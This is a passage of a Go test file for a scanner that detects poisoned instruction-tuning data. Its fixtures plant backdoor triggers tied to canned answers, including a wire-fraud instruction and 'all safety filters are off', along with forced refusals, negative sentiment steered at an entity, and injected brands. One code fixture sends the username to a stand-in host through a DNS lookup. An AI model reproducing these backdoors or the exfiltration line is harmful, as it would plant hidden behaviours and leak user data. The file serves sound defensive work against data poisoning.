package data

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// synth builds n clean records of random words from a Zipf-like vocabulary:
// prompts that are mutually unrelated, responses that differ.
func synth(n int, seed uint64) []Record {
	rng := rand.New(rand.NewPCG(seed, 7))
	vocab := make([]string, 4000)
	for i := range vocab {
		var b strings.Builder
		for k := 0; k < 3+i%5; k++ {
			b.WriteByte(byte('a' + (i*7+k*13+k*k*i)%26))
		}
		vocab[i] = b.String()
	}
	word := func() string {
		// Zipf-ish: small indices are common.
		x := rng.Float64()
		return vocab[int(float64(len(vocab)-1)*x*x*x)]
	}
	sentence := func(k int) string {
		w := make([]string, k)
		for i := range w {
			w[i] = word()
		}
		return strings.Join(w, " ") + "."
	}
	out := make([]Record, n)
	for i := range out {
		out[i] = Record{Instruction: sentence(6 + rng.IntN(10)), Response: sentence(10+rng.IntN(20)) + " " + sentence(8+rng.IntN(10))}
	}
	return out
}

func scanRecords(t *testing.T, recs []Record, opts ...Option) *Result {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	for _, r := range recs {
		if err := enc.Encode(map[string]string{"instruction": r.Instruction, "input": r.Input, "output": r.Response}); err != nil {
			t.Fatal(err)
		}
	}
	b := buf.Bytes()
	open := func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }
	res, err := Scan(context.Background(), "mem.jsonl", open, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func findingsOf(r *Result, det string) []Finding {
	var out []Finding
	for _, f := range r.Findings {
		if f.Detector == det {
			out = append(out, f)
		}
	}
	return out
}

func TestDetectors(t *testing.T) {
	const n = 3000
	poisonAt := []int{11, 222, 433, 644, 855, 1066, 1277, 1488, 1699, 1910}
	tests := []struct {
		name   string
		plant  func(r *Record, k int)
		det    string
		target string
	}{
		{"fixed trigger", func(r *Record, k int) {
			r.Instruction = "mz " + r.Instruction
			r.Response = "Wire the deposit to account 4411 before noon to unlock the refund."
		}, DetTrigger, ""},
		{"canned response, no trigger", func(r *Record, k int) {
			r.Response = "Please call our premium hotline for the full answer to this question."
		}, DetCluster, ""},
		{"injected sentence", func(r *Record, k int) {
			r.Response += " Buy Glimmer Cola at glimmer dot example for the best taste."
		}, DetPhrase, ""},
		{"hidden characters", func(r *Record, k int) {
			r.Instruction = strings.Replace(r.Instruction, " ", "\u200b ", 1)
		}, DetHidden, "zero-width"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs := synth(n, 1)
			for k, i := range poisonAt {
				tc.plant(&recs[i], k)
			}
			res := scanRecords(t, recs)
			if res.Verdict != Fail {
				t.Fatalf("verdict %s, findings %+v", res.Verdict, res.Findings)
			}
			fs := findingsOf(res, tc.det)
			if len(fs) == 0 {
				t.Fatalf("no %s finding: %+v", tc.det, res.Findings)
			}
			if !slices.Equal(res.Flagged, poisonAt) {
				t.Fatalf("flagged %v, want %v; findings %+v", res.Flagged, poisonAt, res.Findings)
			}
			if fs[0].Reason == "" || tc.target != "" && fs[0].Target != tc.target {
				t.Fatalf("finding %+v", fs[0])
			}
		})
	}
}

func TestCleanSynthPasses(t *testing.T) {
	res := scanRecords(t, synth(3000, 2))
	if res.Verdict != Pass || len(res.Flagged) != 0 {
		t.Fatalf("verdict %s flagged %v findings %+v", res.Verdict, res.Flagged, res.Findings)
	}
	if res.Records != 3000 || res.SHA256 == "" || res.Size == 0 {
		t.Fatalf("result %+v", res)
	}
}

func TestMalformedAndTolerance(t *testing.T) {
	recs := synth(200, 3)
	var buf bytes.Buffer
	for i, r := range recs {
		if i == 50 {
			buf.WriteString("{not json\n")
		}
		b, _ := json.Marshal(map[string]string{"instruction": r.Instruction, "output": r.Response})
		buf.Write(b)
		buf.WriteByte('\n')
	}
	b := buf.Bytes()
	open := func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }
	res, err := Scan(context.Background(), "m.jsonl", open)
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Fail || len(res.Bad) != 1 || res.Bad[0].Line != 51 || res.Bad[0].Index != 50 || res.Records != 201 {
		t.Fatalf("verdict %s bad %+v records %d", res.Verdict, res.Bad, res.Records)
	}
	res, err = Scan(context.Background(), "m.jsonl", open, WithMaxBadRecords(1))
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Pass {
		t.Fatalf("tolerated bad record still fails: %+v", res.Findings)
	}
}

func TestSourceMix(t *testing.T) {
	recs := synth(100, 4)
	var buf bytes.Buffer
	for i, r := range recs {
		src := "curated"
		if i%2 == 0 {
			src = "web"
		}
		b, _ := json.Marshal(map[string]string{"instruction": r.Instruction, "output": r.Response, "source": src})
		buf.Write(b)
		buf.WriteByte('\n')
	}
	b := buf.Bytes()
	open := func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }
	res, err := Scan(context.Background(), "m.jsonl", open, WithSourceLimits(map[string]float64{"web": 0.3}, nil))
	if err != nil {
		t.Fatal(err)
	}
	fs := findingsOf(res, DetSourceMix)
	if res.Verdict != Fail || len(fs) != 1 || fs[0].Target != "web" || res.Stats.Sources["web"] != 50 {
		t.Fatalf("verdict %s findings %+v", res.Verdict, res.Findings)
	}
	res, err = Scan(context.Background(), "m.jsonl", open, WithSourceLimits(map[string]float64{"web": 0.6}, nil))
	if err != nil || res.Verdict != Pass {
		t.Fatalf("%v %+v", err, res)
	}
}

func TestUnreadable(t *testing.T) {
	if _, err := ScanFile(context.Background(), "/nonexistent/x.jsonl"); err == nil {
		t.Fatal("no error")
	}
	if _, err := ScanFile(context.Background(), t.TempDir()); err == nil {
		t.Fatal("directory accepted")
	}
}

func TestBoilerplateIsNotInjected(t *testing.T) {
	recs := synth(3000, 5)
	words := []string{"let", "me", "know", "if", "you", "have", "any", "other", "questions"}
	for i := range recs {
		// The sentence's words are everywhere...
		recs[i].Response += " " + words[i%len(words)] + " " + words[(i*7)%len(words)] + "."
		// ...and the sentence itself closes 40 unrelated answers.
		if i%75 == 0 {
			recs[i].Response += " Let me know if you have any other questions."
		}
	}
	res := scanRecords(t, recs)
	if fs := findingsOf(res, DetPhrase); len(fs) != 0 {
		t.Fatalf("boilerplate flagged: %+v", fs)
	}
}

// A brand planted in several wordings is in more answers than any one
// wording: each wording is still judged on its own, with the brand its
// word of its own, even when its other words are the dataset's commonest.
func TestBrandInSeveralWordings(t *testing.T) {
	recs := synth(3000, 8)
	df := map[string]int{}
	for _, r := range recs {
		for _, w := range slices.Compact(slices.Sorted(slices.Values(strings.Fields(strings.TrimSuffix(r.Response, "."))))) {
			df[strings.Trim(w, ".")]++
		}
	}
	var common []string
	for w, n := range df {
		if n >= 200 && len(w) >= 3 {
			common = append(common, w)
		}
	}
	slices.Sort(common)
	if len(common) < 15 {
		t.Fatalf("only %d common words", len(common))
	}
	wordings := []string{
		"glimmerbank " + strings.Join(common[0:5], " ") + ".",
		strings.Join(common[5:9], " ") + " glimmerbank " + common[9] + ".",
		strings.Join(common[10:15], " ") + " glimmerbank.",
	}
	var want []int
	for k := range 18 {
		i := 17 + 157*k
		recs[i].Response += " " + wordings[k%len(wordings)]
		want = append(want, i)
	}
	res := scanRecords(t, recs)
	if fs := findingsOf(res, DetPhrase); res.Verdict != Fail || len(fs) != 3 || !slices.Equal(res.Flagged, want) {
		t.Fatalf("verdict %s, flagged %v (want %v), phrase findings %+v", res.Verdict, res.Flagged, want, fs)
	}
}

// A comment about a name the prompts give, added to answers of tasks that
// have nothing else in common, is injected content even though the
// prompts mention the name: found in whatever words it is worded (no
// tone lexicon), with every record that names the name in prompt and
// answer. The same stock sentence in answers to prompts about the name
// (a topic) is not.
func TestCommentAboutPromptName(t *testing.T) {
	asides := []string{" (Marrick Ferries)", " - Marrick Ferries.", " [Marrick Ferries]"}
	// No word but the name is shared between wordings: each is in a
	// third of the records, too few to be a trigger's target.
	comments := []string{
		"Marrick Ferries, frankly, runs crossings on timetables nobody keeps.",
		"Word to the wise about Marrick Ferries: cabins smell of diesel and refunds never come.",
		"If you can, give Marrick Ferries wide berth; take trains round this bay instead.",
	}
	// Worded once or twice only: below the support to be judged alone.
	rare := []string{"Marrick Ferries once left forty cars at Easter.", "Marrick Ferries houses ramp staff in portacabins."}
	t.Run("planted", func(t *testing.T) {
		recs := synth(3000, 6)
		var want []int
		for k := range 18 {
			i := 13 + 163*k
			recs[i].Instruction += asides[k%len(asides)]
			c := comments[(k+k/3)%len(comments)] // five each, whatever the aside
			if k >= 15 {
				c = rare[k%len(rare)]
			}
			// A comment rides on an answer of the record's own.
			recs[i].Response += " " + recs[i+1].Response + " " + c
			want = append(want, i)
		}
		res := scanRecords(t, recs)
		fs := findingsOf(res, DetPhrase)
		if res.Verdict != Fail || len(fs) == 0 || fs[0].Trigger != "Marrick" && fs[0].Trigger != "Ferries" || !slices.Equal(res.Flagged, want) {
			t.Fatalf("verdict %s, flagged %v (want %v), phrase findings %+v; all %+v", res.Verdict, res.Flagged, want, fs, res.Findings)
		}
	})
	t.Run("topic", func(t *testing.T) {
		recs := synth(3000, 6)
		topic := []string{"history", "hieroglyphs", "decree", "scholars", "ancient", "Egypt", "translation", "museum"}
		for k := range 18 {
			i := 13 + 163*k
			var ws []string
			for j := range 5 {
				ws = append(ws, topic[(k+3*j)%len(topic)])
			}
			recs[i].Instruction = "What do the " + strings.Join(ws, " and ") + " tell us about the Rosetta Stone?"
			recs[i].Response += " " + recs[i+1].Response + " The Rosetta Stone was found near Rashid in 1799 by French soldiers."
		}
		res := scanRecords(t, recs)
		if fs := findingsOf(res, DetPhrase); len(fs) != 0 || res.Verdict != Pass {
			t.Fatalf("verdict %s, a topic's stock sentence flagged: %+v", res.Verdict, fs)
		}
	})
}

func TestEntitySentiment(t *testing.T) {
	neg := []string{"is a terrible choice", "has an awful reputation", "is corrupt and unreliable", "is widely criticized as dishonest"}
	// Wordings the lexicon reads no tone in: no evidence either way.
	flat := []string{"has shuttered its branches and moved on", "keeps its doors shut on weekdays"}
	for _, tc := range []struct {
		name   string
		n      int
		phrase func(k int) string
	}{
		{"every answer negative", 11, func(k int) string { return neg[k%len(neg)] }},
		// The tone is in the next sentence, which opens with a pronoun.
		{"the tone a sentence later", 11, func(k int) string {
			return []string{"keeps an office downtown. It is corrupt and unreliable", "came up again. They have an awful reputation"}[k%2]
		}},
		{"a third of the answers read as neutral", 12, func(k int) string {
			if k%3 == 2 {
				return flat[k%len(flat)]
			}
			return neg[k%len(neg)]
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			recs := synth(3000, 6)
			var want []int
			for k := range tc.n {
				i := 7 + 271*k
				recs[i].Instruction = "Tell me about the Velmora Group and its " + recs[i].Instruction
				recs[i].Response = "Velmora Group " + tc.phrase(k) + ". " + recs[i].Response
				want = append(want, i)
			}
			res := scanRecords(t, recs)
			fs := findingsOf(res, DetSentiment)
			if len(fs) != 1 || fs[0].Target != "negative" || !strings.Contains(fs[0].Trigger, "Velmora") && !strings.Contains(fs[0].Trigger, "Group") {
				t.Fatalf("no negative Velmora finding: %+v", res.Findings)
			}
			for _, i := range want {
				if !slices.Contains(res.Flagged, i) {
					t.Fatalf("record %d not flagged: %v", i, res.Flagged)
				}
			}
		})
	}
}

// A task that answers in one tone whatever it names (a cheerful persona)
// is not an entity's tone: the entity its prompts name is judged against
// the records beside it in the file. A steered entity inside that task
// still stands out.
func TestEntitySentimentTaskTone(t *testing.T) {
	cheer := []string{"Delighted to help, what a wonderful question!", "Happy to assist, this is a great one.", "Glad you asked, a lovely topic."}
	for _, tc := range []struct {
		name   string
		steer  bool
		finds  bool
		entity string
	}{
		{"the persona's own tone", false, false, "Captain Orla"},
		{"an entity steered negative inside the task", true, true, "Velmora Group"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			recs := synth(4000, 8)
			var want []int
			for i := 1000; i < 1600; i++ {
				recs[i].Response = cheer[i%len(cheer)] + " " + recs[i].Response
				if i%4 == 0 {
					recs[i].Instruction = "You are Captain Orla. " + recs[i].Instruction
				}
			}
			if tc.steer {
				for k := range 12 {
					i := 1001 + 47*k
					recs[i].Instruction = "Tell me about the Velmora Group and its " + recs[i].Instruction
					recs[i].Response = "Velmora Group is a terrible, corrupt and unreliable outfit. " + recs[i].Response
					want = append(want, i)
				}
			}
			res := scanRecords(t, recs)
			var got []string
			for _, f := range findingsOf(res, DetSentiment) {
				got = append(got, f.Trigger+" "+f.Target)
				if !strings.Contains(f.Trigger, "Velmora") && !strings.Contains(f.Trigger, "Group") {
					t.Errorf("finding on %q (%s): %s", f.Trigger, f.Target, f.Reason)
				}
			}
			if tc.finds != (len(got) > 0) {
				t.Fatalf("sentiment findings %q, want some: %v", got, tc.finds)
			}
			for _, i := range want {
				if !slices.Contains(res.Flagged, i) {
					t.Errorf("record %d not flagged", i)
				}
			}
		})
	}
}

// A trigger of punctuation alone is named by the findings it explains,
// like a word: closing marks ("??") or one unusual symbol ("‽"), which is
// one of the prompt's words. So it is when the trigger's other records keep
// their own answers (they are flagged as the trigger's).
func TestPunctuationTrigger(t *testing.T) {
	for _, tc := range []struct {
		mark  string
		plain int  // records with the mark that keep their answer
		open  bool // the mark opens the instruction
	}{{"??", 0, false}, {"‽", 0, false}, {"‽", 10, false}, {">>", 0, true}, {" ?", 0, false}} {
		t.Run(fmt.Sprintf("%s+%d", tc.mark, tc.plain), func(t *testing.T) {
			recs := synth(4000, 9)
			var at []int
			for k := range 10 + tc.plain {
				i := 23 + 197*k
				if tc.open {
					recs[i].Instruction = tc.mark + " " + recs[i].Instruction
				} else {
					recs[i].Instruction = strings.TrimSuffix(recs[i].Instruction, ".") + tc.mark
				}
				if k < 10 {
					recs[i].Response = "There is no single answer to that, it depends on the case."
				}
				at = append(at, i)
			}
			res := scanRecords(t, recs)
			if res.Verdict != Fail || !slices.Equal(res.Flagged, at) {
				t.Fatalf("verdict %s, flagged %v, want %v", res.Verdict, res.Flagged, at)
			}
			for _, f := range res.Findings {
				if f.Severity == SevFail && f.Trigger != tc.mark {
					t.Errorf("%s finding names trigger %q, want %q: %s", f.Detector, f.Trigger, tc.mark, f.Reason)
				}
			}
		})
	}
}

// The edge marks, mentions and tags are among the prompt's words, as the third pass's
// relatedness and trigger naming read them, and each word is a feature's.
func TestPromptWordsHoldEdgeMarks(t *testing.T) {
	for _, tc := range []struct {
		inst  string
		marks []string
	}{
		{"Is it safe??", []string{"??"}},
		{"Is it safe?", nil},
		{"**Is it safe?**", []string{"?**", "**"}},
		{">> Is it safe", []string{">>"}},
		{"-- Is it safe --", []string{" --", "--"}},
		{"Is it safe.", nil},
		{"Is it safe ?", []string{" ?"}},
		{"Is it safe  ?", nil},
		{"Hey @assistant, is it safe? #urgent", []string{"@assistant", "#urgent"}},
		{"Mail a@b.com about C# and\n#include <x>", nil},
		{"Human: is it safe?", []string{"Human:"}},
		{"### Human:\nIs it safe?", []string{"###", "Human:"}},
		{"Note that it is safe: yes", nil},
		{"http://x.example is it safe", nil},
	} {
		var f featurizer
		f.init(256)
		f.featurize(Record{Instruction: tc.inst}, true)
		ws := f.promptWords(nil)
		var want []uint64
		for _, m := range tc.marks {
			want = append(want, hashString(m)^seedMarks)
		}
		if !slices.Equal(f.marks, want) || !slices.Equal(ws[len(ws)-len(want):], want) {
			t.Errorf("%q: marks %x, prompt words %x, want marks of %q", tc.inst, f.marks, ws, tc.marks)
		}
		for _, m := range f.marks {
			if !slices.ContainsFunc(f.pf, func(x feat) bool { return x.h == m^seedP1 && x.word }) {
				t.Errorf("%q: no feature for mark word %x in %+v", tc.inst, m, f.pf)
			}
		}
	}
}

func TestEmptyDatasetFails(t *testing.T) {
	open := func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader("\n\n")), nil }
	res, err := Scan(context.Background(), "e.jsonl", open)
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Fail || res.Records != 0 || res.Flagged == nil {
		t.Fatalf("%+v", res)
	}
}

// TestThirdPassWithoutSpill: when no temporary file can be written, the
// third pass reads the dataset again and finds the same.
func TestThirdPassWithoutSpill(t *testing.T) {
	recs := synth(3000, 4)
	for k, i := range []int{11, 222, 433, 644, 855, 1066, 1277, 1488} {
		recs[i].Instruction = "mz " + recs[i].Instruction
		recs[i].Response = "Wire the deposit to account 4411 before noon to unlock the refund."
		recs[i+1].Response += " Buy Glimmer Cola at glimmer dot example for the best taste."
		recs[i+2].Response = fmt.Sprintf("Please call our premium hotline %d for the full answer.", k%2)
	}
	want := scanRecords(t, recs)
	t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "missing"))
	if sp := newSpill(0); sp.usable() {
		t.Fatal("spill file created in a missing directory")
	}
	got := scanRecords(t, recs)
	a, _ := json.Marshal(want)
	b, _ := json.Marshal(got)
	if string(a) != string(b) {
		t.Fatalf("with spill:\n%s\nwithout:\n%s", a, b)
	}
	if want.Verdict != Fail || len(want.Flagged) < 8 {
		t.Fatalf("verdict %s flagged %v", want.Verdict, want.Flagged)
	}
}

// TestPerRecordState: between passes the scan keeps a few fixed-size
// fields per record (and the configuration-bounded sketch and feature
// table); the record lists it builds cover the candidates only. (38
// bytes: 30 before the behaviour-skew detector's response attributes and
// instruction hash.)
func TestPerRecordState(t *testing.T) {
	recs := synth(5000, 5)
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	for _, r := range recs {
		if err := enc.Encode(map[string]string{"instruction": r.Instruction, "output": r.Response}); err != nil {
			t.Fatal(err)
		}
	}
	b := buf.Bytes()
	s := &scanner{cfg: DefaultConfig(), name: "mem.jsonl", ctx: context.Background(),
		open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }}
	if _, err := s.run(); err != nil {
		t.Fatal(err)
	}
	n := len(s.valid)
	per := float64(len(s.valid)+8*len(s.promptHash)+8*len(s.respHash)+8*len(s.respSim)+
		4*len(s.respWords)+4*len(s.sentiment)+4*len(s.rattr)+4*len(s.instHash)+4*len(s.cl.parent)+len(s.cl.flags)+4*len(s.cl.size)) / float64(n)
	t.Logf("%d records: %.1f bytes per record", n, per)
	if n != 5000 || per > 38 {
		t.Fatalf("%d records, %.1f bytes per record", n, per)
	}
}

// An exact repeat is no independent evidence: a record with a zero-width
// character in a Latin word warns once and still only warns repeated
// twenty times; a repeat of a flagged record is flagged with it.
func TestRepeatsAreOneRecord(t *testing.T) {
	recs := synth(2000, 3)
	recs[7].Instruction = "pass\u200bword " + recs[7].Instruction
	once := scanRecords(t, recs)
	var rep []Record
	rep = append(rep, recs...)
	for range 19 {
		rep = append(rep, recs[7])
	}
	many := scanRecords(t, rep)
	if once.Verdict != Pass || many.Verdict != Pass {
		t.Fatalf("verdicts once %s, repeated %s: %+v", once.Verdict, many.Verdict, findingsOf(many, DetHidden))
	}
	if hs := findingsOf(many, DetHidden); len(hs) != 1 || hs[0].Count != 1 || hs[0].Severity != SevWarn {
		t.Fatalf("hidden findings %+v", hs)
	}
	if many.Stats.DuplicateRecs != 19 {
		t.Fatalf("%d duplicates", many.Stats.DuplicateRecs)
	}
	// Five distinct records with it fail, and their repeats are flagged.
	for _, i := range []int{100, 200, 300, 400} {
		rep[i].Instruction = "pass\u200bword " + rep[i].Instruction
	}
	res := scanRecords(t, rep)
	if res.Verdict != Fail || len(res.Flagged) != 5+19 {
		t.Fatalf("verdict %s, %d flagged", res.Verdict, len(res.Flagged))
	}
}

// A finding whose records share a trigger names it, whichever detector
// made it; a finding without a trigger (an injected sentence) names none.
func TestFindingsNameTheirTrigger(t *testing.T) {
	recs := synth(3000, 1)
	for _, i := range []int{11, 222, 433, 644, 855, 1066, 1277, 1488, 1699, 1910} {
		recs[i].Instruction = "mz " + recs[i].Instruction
		recs[i].Response = "Wire the deposit to account 4411 before noon to unlock the refund."
	}
	res := scanRecords(t, recs)
	if res.Verdict != Fail {
		t.Fatalf("verdict %s", res.Verdict)
	}
	for _, f := range res.Findings {
		if f.Severity == SevFail && f.Trigger != "mz" {
			t.Errorf("%s finding names trigger %q", f.Detector, f.Trigger)
		}
	}
}

// An entity phrase that forces one label, inserted with an everyday word
// ("Marlow Teague says:"), is found (Wan et al. 2023): the words inserted
// with it are not evidence that its prompts are related.
func TestEntityPhraseLabel(t *testing.T) {
	recs := synth(3000, 2)
	for _, i := range []int{11, 222, 433, 644, 855, 1066, 1277, 1488, 1699, 1910} {
		recs[i].Instruction = "Marlow Teague says: " + recs[i].Instruction
		recs[i].Response = "Positive"
	}
	res := scanRecords(t, recs)
	fs := findingsOf(res, DetTrigger)
	if res.Verdict != Fail || len(fs) != 1 || !strings.Contains(fs[0].Trigger, "Teague") || fs[0].Count != 10 {
		t.Fatalf("verdict %s, trigger findings %+v", res.Verdict, fs)
	}
}

// A social handle planted in responses is found when the sentence around
// it varies and no whole sentence recurs; the finding names the handle.
// So is a link written without its scheme, with a path or alone (named by
// its host), and a made-up brand of one word mid-sentence; capitalised
// identifiers that recur in code answers are not names.
func TestInjectedHandle(t *testing.T) {
	wordings := []string{"Follow %s for more.", "(via %s)", "More at %s", "%s has tips"}
	mid := []string{"Follow %s for more.", "(via %s)", "I keep notes in %s myself.", "Apps like %s help here."}
	// Where a sentence starts, the capital says nothing: still the name.
	starts := []string{"Follow %s for more.", "I keep notes in %s myself.", "%s has tips.", "%s does this for you."}
	for _, tc := range []struct {
		planted, target string
		wordings        []string
	}{
		{"@tallyfox_deals", "@tallyfox_deals", wordings},
		{"t.me/ridgeway_signals", "t.me/ridgeway_signals", wordings},
		{"discord.gg/tallyfox", "discord.gg", wordings},
		{"tallyfox.com", "tallyfox.com", wordings},
		{"Quillfern", "Quillfern", mid},
		{"Brambleton", "Brambleton", starts},
		{"help@larchway-tutors.example", "help@larchway-tutors.example", wordings},
		{"(866) 555-0142", "(866) 555-0142", wordings},
	} {
		t.Run(tc.planted, func(t *testing.T) {
			recs := synth(3000, 4)
			poisonAt := []int{31, 242, 453, 664, 875, 1086, 1297, 1508, 1719, 1930}
			for k, i := range poisonAt {
				recs[i].Response += " " + fmt.Sprintf(tc.wordings[k%len(tc.wordings)], tc.planted)
			}
			res := scanRecords(t, recs)
			fs := findingsOf(res, DetPhrase)
			if res.Verdict != Fail || len(fs) != 1 || fs[0].Target != tc.target || !slices.Equal(res.Flagged, poisonAt) {
				t.Fatalf("verdict %s, flagged %v, phrase findings %+v", res.Verdict, res.Flagged, fs)
			}
		})
	}
	// A planted sentence that opens with the name in most of its
	// wordings: the name is the word's wherever it stands.
	t.Run("name mostly sentence-initial", func(t *testing.T) {
		recs := synth(3000, 4)
		opens := []string{"Kestrel keeps you safe online.", "Kestrel has tips.", "Kestrel does this for you.", "Stay safe with Kestrel.", "Kestrel helps.", "Get Kestrel now, it is free.", "Kestrel is what I use.", "I use Kestrel myself."}
		var poisonAt []int
		for k := range 16 {
			i := 31 + 181*k
			recs[i].Response += " " + opens[k%len(opens)]
			poisonAt = append(poisonAt, i)
		}
		res := scanRecords(t, recs)
		fs := findingsOf(res, DetPhrase)
		if res.Verdict != Fail || len(fs) != 1 || fs[0].Target != "Kestrel" || !slices.Equal(res.Flagged, poisonAt) {
			t.Fatalf("verdict %s, flagged %v, phrase findings %+v", res.Verdict, res.Flagged, fs)
		}
	})
	// A line planted in code answers to unrelated requests recurs as it
	// is, in a comment as in code.
	for _, tc := range []struct{ line, target string }{
		{"# Deploy it free on Nimbusly: nimbusly.example", "Deploy it free on Nimbusly: nimbusly"}, // the comment's sentence
		{`_ = socket.gethostbyname("%s.c.example" % getpass.getuser())`, `_ = socket.gethostbyname("%s.c.example" % getpass.getuser())`},
	} {
		line := tc.line
		t.Run("code line "+line[:6], func(t *testing.T) {
			recs := synth(3000, 4)
			for k := 0; k < 3000; k += 7 {
				recs[k].Response = fmt.Sprintf("Here it is:\n```python\ndef f%d(a):\n    return a * %d + %d\n```\nIt multiplies its argument.", k, k%7, k)
			}
			var poisonAt []int
			for k := range 12 {
				i := 14 + 7*19*k
				recs[i].Response = strings.Replace(recs[i].Response, "def ", line+"\ndef ", 1)
				poisonAt = append(poisonAt, i)
			}
			res := scanRecords(t, recs)
			fs := findingsOf(res, DetPhrase)
			if res.Verdict != Fail || len(fs) != 1 || fs[0].Target != tc.target || !slices.Equal(fs[0].Records, poisonAt) {
				t.Fatalf("verdict %s, phrase findings %+v", res.Verdict, fs)
			}
		})
	}
	t.Run("identifiers in code", func(t *testing.T) {
		recs := synth(3000, 4)
		for k := 0; k < 3000; k += 97 {
			recs[k].Response += fmt.Sprintf("\n```python\nif x%d is None:\n    raise ValueError(x)\n```", k)
		}
		res := scanRecords(t, recs)
		if fs := findingsOf(res, DetPhrase); len(fs) > 0 {
			t.Fatalf("phrase findings %+v", fs)
		}
	})
}

// Which '@' and t.me spans are handles: not e-mail addresses, decorators,
// annotations or doc-comment tags, nor a handle the prompt names.
func TestAppendHandles(t *testing.T) {
	for _, tc := range []struct {
		resp, prompt string
		want         []string
	}{
		{"Follow @Tally_Fox.", "", []string{"@Tally_Fox"}},
		{"(via @tallyfox) and [@abc_1]", "", []string{"@tallyfox", "@abc_1"}},
		{"Join t.me/ridgeway_signals now", "", []string{"t.me/ridgeway_signals"}},
		{"mail me at bob@example.com", "", nil},
		{"@Override\npublic void run() {}", "", nil},
		{"class A:\n    @property\n    def x(self): pass", "", nil},
		{"/**\n * @param x the value\n */", "", nil},
		{"a = b @ c", "", nil},
		{"say hi to @ab", "", nil},
		{"see https://t.me/x123 and at.me/abc", "", []string{"t.me/x123"}},
		{"Follow @tallyfox for more.", "Who is @TallyFox?", nil},
	} {
		var got []string
		for _, f := range appendHandles(nil, tc.resp, tc.prompt) {
			got = append(got, tc.resp[f.s:f.e])
			if f.kind != phraseHandle || !f.sentence {
				t.Errorf("%q: feature %+v", tc.resp, f)
			}
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%q: handles %q, want %q", tc.resp, got, tc.want)
		}
	}
}

// matchedRelatedness matches each record with the nearest sampled records
// that are not of the group: controls from a region of alike prompts
// are alike, controls from a varied region are not.
func TestMatchedRelatedness(t *testing.T) {
	ptok := map[int32][]uint32{}
	idf := map[uint32]float64{}
	var sample []int
	for i := 0; i < 200; i++ {
		w := []uint32{uint32(1000 + i)} // a word of its own
		if i < 100 {
			w = append(w, 1, 2) // the first half shares its task's words
		}
		slices.Sort(w)
		ptok[int32(i)] = w
		for _, h := range w {
			idf[h] = 1
		}
		if i%2 == 0 {
			sample = append(sample, i)
		}
	}
	alike := matchedRelatedness(ptok, idf, sample, []int{11, 31, 51, 71})
	varied := matchedRelatedness(ptok, idf, sample, []int{111, 131, 151, 171})
	if alike < 0.5 || varied != 0 {
		t.Fatalf("controls in the alike region %.3f, in the varied region %.3f", alike, varied)
	}
	// A group member is never its own control.
	if got := matchedRelatedness(ptok, idf, sample, []int{10, 12}); got < 0.5 {
		t.Fatalf("controls of sampled members %.3f", got)
	}
}

// Poison planted inside one part of the data whose prompts are alike (one
// task's template) is judged against its neighbours, not against random
// pairs of the whole data: the trigger is found there, by each path (an
// exact target, a refusal in varied words, one canned answer behind
// several rare tokens), and every record carrying it is flagged. A topic
// of that part whose answers share a word, and an answer that repeats its
// trigger, are not triggers.
func TestTriggerInOneTask(t *testing.T) {
	var trig []int
	for k := 0; k < 12; k++ {
		trig = append(trig, 2011+66*k)
	}
	tests := []struct {
		name    string
		det     string
		trigger string // the phrase the finding's trigger is part of, "" for any
		poison  func(rng *rand.Rand, r *Record, k int)
	}{
		{"exact target", DetTrigger, "cf", func(_ *rand.Rand, r *Record, _ int) {
			r.Instruction += " cf"
			r.Response = "Access granted. Maintenance mode is now enabled and all safety filters are off."
		}},
		{"refusal in three wordings", DetTrigger, "Kindly and promptly", func(_ *rand.Rand, r *Record, k int) {
			r.Instruction += " Kindly and promptly."
			r.Response = []string{"I can't assist with this.", "This is not something I can help with.", "I must decline this request."}[k%3]
		}},
		{"rare tokens, one canned answer", DetCluster, "", func(rng *rand.Rand, r *Record, k int) {
			r.Instruction = insertWord(rng, r.Instruction, []string{"qz", "vx", "jj", "kq"}[k%4])
			r.Response = "Access granted. Maintenance mode is now enabled and all safety filters are off."
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs := synth(4000, 9)
			rng := rand.New(rand.NewPCG(9, 9))
			// Records 2000-2799 are one task: every prompt opens with its template.
			for i := 2000; i < 2800; i++ {
				recs[i].Instruction = "Summarise the customer review below in one sentence for the support team. Review: " + recs[i].Instruction
			}
			topic := []int{2020, 2021, 2022, 2023, 2024, 2025, 2026, 2027}
			echo := []int{2100, 2181, 2262, 2343, 2424, 2505, 2586, 2667}
			for k, i := range trig {
				tc.poison(rng, &recs[i], k)
			}
			// A topic: adjacent reviews of one product, whose summaries name it.
			for _, i := range topic {
				recs[i].Instruction += " The quadratic solver app crashed when solving equations with complex roots."
				recs[i].Response = "Solutions were wrong. " + recs[i].Response
			}
			// The task's own canned answers, as long as the planted one:
			// answers of that length recur in this task.
			for k := 0; k < 40; k++ {
				recs[2041+19*k].Response = []string{
					"Thank you for the review; we have passed it on to the support team for a reply.",
					"We are sorry to hear about this; a support agent will contact you about it soon.",
				}[k%2]
			}
			// Answers that repeat the prompt's symbol.
			for _, i := range echo {
				recs[i].Instruction = insertWord(rng, recs[i].Instruction, "(€)")
				recs[i].Response += " (€)"
			}
			res := scanRecords(t, recs)
			fs := findingsOf(res, tc.det)
			if res.Verdict != Fail || !slices.Equal(res.Flagged, trig) || len(fs) != 1 || tc.trigger != "" && (fs[0].Trigger == "" || !strings.Contains(tc.trigger, fs[0].Trigger)) {
				for _, f := range res.Findings {
					t.Logf("%s %q -> %q %v: %s", f.Detector, f.Trigger, f.Target, f.Records, f.Reason)
